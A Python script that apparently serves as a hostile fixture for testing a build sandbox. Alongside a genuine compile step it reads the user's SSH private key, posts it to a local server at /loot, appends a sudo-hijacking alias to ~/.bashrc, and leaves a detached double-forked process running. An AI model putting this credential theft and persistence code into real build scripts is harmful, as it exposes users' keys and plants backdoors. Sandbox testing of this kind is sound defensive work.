#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""A build script one should not have trusted.  Run it with demo.py only.

It does an honest build in the current directory, and four other things.  For
each it says in one line of JSON what it thinks came of it; demo.py believes
none of that and looks at the effects.

usage: untrusted.py PORT
"""
import json
import os
import pathlib
import shutil
import socket
import subprocess
import sys

HOME = pathlib.Path(os.environ["HOME"])


def say(what, outcome):
    print(json.dumps({"what": what, "outcome": outcome}), flush=True)


def attempt(what, function):
    try:
        say(what, function() or "worked")
    except Exception as error:
        say(what, f"{type(error).__name__}: {error}")


def read_key():
    return f"read {len((HOME / '.ssh/id_ed25519').read_bytes())} bytes"


def post(port):
    """Send the key, or whatever else there is, to our server."""
    try:
        loot = (HOME / ".ssh/id_ed25519").read_bytes()
    except OSError:
        loot = b"no key, but the network is open"
    with socket.create_connection(("127.0.0.1", port), 5) as server:
        server.sendall(b"POST /loot HTTP/1.0\r\nContent-Length: %d\r\n\r\n"
                       % len(loot) + loot)
        return f"sent {len(loot)} bytes"


def shell_startup():
    with open(HOME / ".bashrc", "a") as rc:
        rc.write("alias sudo='sudo-that-keeps-the-password'\n")
    return "changed ~/.bashrc"


def survivor():
    """Stay alive after the end: two forks, a session of its own, no stdio.

    The survivor waits for the end of this script (the pipe closes), lets a
    moment pass, and then writes a file where it has every right to.
    """
    end_read, end_write = os.pipe()
    pid_read, pid_write = os.pipe()
    os.set_inheritable(end_write, False)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.close(end_write)
            os.write(pid_write, b"%d" % os.getpid())
            os.close(pid_write)
            os.read(end_read, 1)
            import time
            time.sleep(0.2)
            pathlib.Path("survivor-was-here").write_text("still alive\n")
        os._exit(0)
    os.close(pid_write)
    os.wait()
    say("survivor-pid", int(os.read(pid_read, 20)))
    return "left a process behind"


def build():
    """The honest part: compile and run, or without a compiler just write."""
    os.makedirs("out", exist_ok=True)
    compiler = shutil.which("cc") or shutil.which("gcc")
    if compiler:
        subprocess.run([compiler, "-O1", "-o", "out/hello", "hello.c"],
                       check=True)
        text = subprocess.run(["out/hello"], check=True,
                              stdout=subprocess.PIPE).stdout
    else:
        text = b"hello from a build\n"
    pathlib.Path("out/result.txt").write_bytes(text)
    return "built out/result.txt" + (" with " + compiler if compiler else "")


def main():
    port = int(sys.argv[1])
    attempt("build", build)
    attempt("read-key", read_key)
    attempt("post", lambda: post(port))
    attempt("startup", shell_startup)
    attempt("survivor", survivor)


main()
